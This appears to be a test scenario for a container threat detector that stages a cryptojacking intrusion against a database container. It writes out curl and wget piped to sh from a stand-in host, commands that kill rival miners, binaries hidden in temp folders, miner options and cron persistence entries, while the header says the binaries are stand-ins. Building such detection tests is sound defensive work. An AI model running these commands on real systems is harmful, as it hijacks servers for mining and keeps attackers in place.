# incident-database-to-miner: an open database is made to run a dropper, which kills rivals, hides, mines and stays by cron.
# shows: a shell under the database's program, a fetched script, programs among hidden temporary files, a miner's options, cron written
# outcome: programs of these names that mine nothing; the server that the dropper comes from is this machine's own
# label: malicious
# expects: [database-spawned-shell, remote-script-piped-to-interpreter, script-from-odd-address-run, miner-run, mining-prepared, program-run-from-hidden-folder, suspicious-start-entry-written]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, cron-table-changed, kernel-thread-imitated, network-scanned, program-run-from-shared-memory, miner-image-started, kernel-parameter-written-in-container]
prepare() {
    . /lab/stand_ins.sh
    outside 203.0.113.77
    cp /usr/bin/dash /srv/lab/server
    stand_in /srv/lab/worker
    image_from store/redis:7 bin/redis-server=/srv/lab/server bin/postgres=/srv/lab/server /usr/bin/curl srv/worker=/srv/lab/worker
    answer 3333
    mkdir -p /srv/www
    cat >/srv/www/d.sh <<'S'
mkdir -p /tmp/.ice /var/tmp/.sys
killall -9 kdevtmpfsi
ps | grep -v grep | grep xmrig | awk '{print $1}' | xargs kill -9 2>/dev/null
cp /srv/worker /tmp/.ice/dbus-daemon; cp /srv/worker /var/tmp/.sys/httpd
S
    serve /srv/www 8080
}
act() {
    if dev; then
        docker run --rm --network host store/redis:7 redis-server -c 'sh -c "curl -s http://203.0.113.77:8080/d.sh | sh"; sh -c "killall -9 kdevtmpfsi xmrig kinsing"; sh -c "/tmp/.ice/dbus-daemon -o stratum+tcp://203.0.113.77:3333 -u 44x -p x --donate-level=1 -B"; sh -c "mkdir -p /var/spool/cron/crontabs; echo \"*/5 * * * * curl -s http://203.0.113.77:8080/d.sh | sh\" >>/var/spool/cron/crontabs/root"; true'
    else
        docker run --rm --net=host store/redis:7 postgres -c 'sh -c "wget -q -O - http://203.0.113.77:8080/d.sh | sh"; sh -c "sysctl -w vm.nr_hugepages=128; killall minerd; nohup /var/tmp/.sys/httpd --url=203.0.113.77:3333 --algo rx/0 --coin=monero -k"; sh -c "(crontab -l; echo \"@reboot wget -qO- http://203.0.113.77:8080/d.sh | sh\") | crontab -"; true'
    fi
    true
}
restore() { . /lab/stand_ins.sh; answers_stop; docker rmi store/redis:7; }
